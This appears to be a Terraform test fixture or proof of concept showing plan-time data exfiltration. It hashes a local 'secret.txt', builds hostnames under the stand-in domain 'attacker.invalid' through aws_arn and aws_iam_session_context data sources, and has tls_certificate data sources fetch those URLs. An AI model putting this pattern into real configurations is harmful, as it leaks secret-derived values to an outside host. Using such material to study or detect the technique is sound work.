data "aws_arn" "host" {
  arn = "arn:aws:s3:::${filesha1("secret.txt")}.attacker.invalid"
}

data "aws_iam_session_context" "host" {
  arn = "${filesha1("secret.txt")}.attacker.invalid"
}

data "tls_certificate" "one" {
  url = "https://${data.aws_arn.host.resource}"
}

data "tls_certificate" "two" {
  url = "https://${data.aws_iam_session_context.host.issuer_arn}"
}
